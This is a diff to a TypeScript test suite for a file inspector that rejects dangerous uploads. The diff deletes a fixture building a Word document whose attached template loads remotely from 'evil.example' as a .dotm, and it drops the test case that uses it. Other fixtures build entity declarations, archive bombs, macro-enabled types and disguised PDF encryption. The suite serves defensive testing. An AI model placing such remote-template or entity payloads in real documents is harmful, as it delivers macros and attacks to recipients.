@@ -163,11 +163,6 @@ describe('pictures', () => {
 });
 
 describe('documents', () => {
-  const template = (target: string) =>
-    docx({
-      name: 'word/_rels/settings.xml.rels',
-      data: `<Relationships><Relationship Id="r1" Type="http://x/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="${target}"/></Relationships>`,
-    });
   const heavy = Buffer.concat([randomBytes(600 * 1024), Buffer.alloc(40 * 1024 * 1024)]);
   const bombs = Buffer.alloc(41 * 1024 * 1024);
   const macros = 'application/vnd.ms-word.document.macroEnabled.main+xml';
@@ -199,7 +194,6 @@ describe('documents', () => {
           { name: 'xl/workbook.xml', data: '' },
         ]),
     ],
-    ['an external template', () => template('External')],
     ['entities', () => docx({ name: 'word/_rels/x.rels', data: '<!DOCTYPE x [<!ENTITY y "External">]>' })],
     ['an archive that only says it is a document', () => zip(documentParts().slice(0, 2))],
     [
@@ -273,7 +267,9 @@ describe('PDFs', () => {
     ['is encrypted', () => pdf({ trailer: '/Encrypt 9 0 R' })],
     ['is encrypted in disguise', () => pdf({ trailer: '/#45ncrypt << /Filter /Standard >>' })],
   ])('refuses one that %s', async (_, make) => {
-    await expect(inspect(make(), 'a.pdf')).rejects.toMatchObject(refused('invalid', DOCUMENT));
+    await expect(inspect(make(), 'a.pdf')).rejects.toMatchObject(
+      refused('invalid', 'This PDF is locked by a password. Save it without one and send it again.'),
+    );
   });
 
   it('refuses one that is an archive too', async () => {
